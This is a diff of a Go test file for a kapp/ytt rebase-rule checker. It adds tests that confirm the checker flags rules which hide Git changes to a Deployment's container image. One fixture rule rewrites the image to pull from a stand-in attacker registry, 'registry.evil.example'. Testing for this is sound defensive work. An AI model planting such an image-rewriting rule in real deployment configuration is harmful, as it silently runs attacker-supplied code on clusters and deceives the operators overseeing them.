@@ -45,3 +45,85 @@ spec:
 		}
 	}
 }
+
+// hpaWith returns the hpa-replicas inputs with the Deployment's image in the manifest set to
+// image and, unless original, the live Deployment without kapp.k14s.io/original (a first deploy
+// by kapp, an object it takes over).
+func hpaWith(t *testing.T, image string, original bool) generator.Inputs {
+	read := func(name string) string {
+		bs, err := os.ReadFile(filepath.Join("..", "fixtures", "hpa-replicas", name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(bs)
+	}
+	live := read("live.yaml")
+	if !original {
+		var kept []string
+		for i, l := range strings.SplitAfter(live, "\n") {
+			if i < 40 && strings.Contains(l, "kapp.k14s.io/original") { // the Deployment's annotations and their managedFields
+				continue
+			}
+			kept = append(kept, l)
+		}
+		live = strings.Join(kept, "")
+	}
+	desired := strings.Replace(read("desired.yaml"), "image: nginx:1.25\n", "image: "+image+"\n", 1)
+	return generator.Inputs{Desired: []string{writeFile(t, "desired.yaml", desired)}, Live: []string{writeFile(t, "live.yaml", live)}, Namespace: "hpa-replicas"}
+}
+
+// imageOverlay is a Config whose ytt rule sets the web container's image to pick(n, e), n the
+// manifest's image and e the live one.
+func imageOverlay(pick string) string {
+	return strings.Replace(yttRuleConfig(`#@ load("@ytt:overlay", "overlay")
+#@ load("@ytt:data", "data")
+#@ def pick():
+#@   n = data.values.new["spec"]["template"]["spec"]["containers"][0]["image"]
+#@   e = data.values.existing["spec"]["template"]["spec"]["containers"][0]["image"]
+#@   `+pick+`
+#@ end
+#@overlay/match by=overlay.all
+---
+spec:
+  template:
+    spec:
+      containers:
+      #@overlay/match by="name"
+      - name: web
+        image: #@ pick()
+`), "{apiVersion: crd-defaults.rebasegen.dev/v1alpha1, kind: Backup}", "{apiVersion: apps/v1, kind: Deployment}", 1)
+}
+
+// A rule that rewrites a changed value into a third one (another registry's image) lets kapp
+// report an update, and apply the rule's value: the mutation check asked only that kapp report
+// an update, and check said the change made in Git was applied on deploy (probe 23 finding 15).
+func TestCheckRuleRewritingAChangeIsHidden(t *testing.T) {
+	rules := writeFile(t, "rules.yml", imageOverlay(`return n if n == e else "registry.evil.example/" + n`))
+	for _, image := range []string{"nginx:1.25", "nginx:1.27"} { // as applied; changed in Git
+		c, err := generator.Check(hpaWith(t, image, true), []string{rules, classicRules})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := fmt.Sprint(hiddenPaths(c)); got != "[spec.template.spec.containers[name=web].image]" || len(c.Pending) != 0 {
+			t.Errorf("image %s: hidden %s, pending %+v; want the image hidden, nothing pending", image, got, c.Pending)
+		}
+	}
+}
+
+// Without kapp.k14s.io/original a change made in Git is drift (it cannot be told from one made
+// on the cluster); a rule keyed to the value Git now holds hid it and check exited 0 with a drift
+// warning (probe 23 finding 7). kapp's built-in rules alone apply the manifest's value.
+func TestCheckDriftARuleHidesWithoutOriginal(t *testing.T) {
+	rules := writeFile(t, "rules.yml", imageOverlay(`return e if n == "nginx:1.27" else n`))
+	c, err := generator.Check(hpaWith(t, "nginx:1.27", false), []string{rules, classicRules})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := fmt.Sprint(hiddenPaths(c)); got != "[spec.template.spec.containers[name=web].image]" {
+		t.Errorf("hidden %s, want the image; drift %+v", got, c.Drift)
+	}
+	// the same change without the rule: drift, not hidden
+	if c, err = generator.Check(hpaWith(t, "nginx:1.27", false), []string{classicRules}); err != nil || len(c.Hidden) != 0 {
+		t.Errorf("without the rule: hidden %v, err %v", c.Hidden, err)
+	}
+}
